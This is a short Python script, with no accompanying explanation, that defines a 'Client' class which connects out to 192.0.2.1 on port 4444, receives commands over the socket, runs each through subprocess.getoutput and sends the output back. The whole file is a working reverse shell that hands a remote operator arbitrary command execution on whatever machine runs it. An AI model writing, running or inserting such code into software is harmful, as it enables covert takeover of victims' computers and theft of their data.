import socket
import subprocess

class Client:
    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def start(self):
        self.sock = socket.socket()
        self.sock.connect((self.host, self.port))
        while True:
            cmd = self.sock.recv(1024).decode()
            out = subprocess.getoutput(cmd)
            self.sock.send(out.encode())

Client("192.0.2.1", 4444).start()
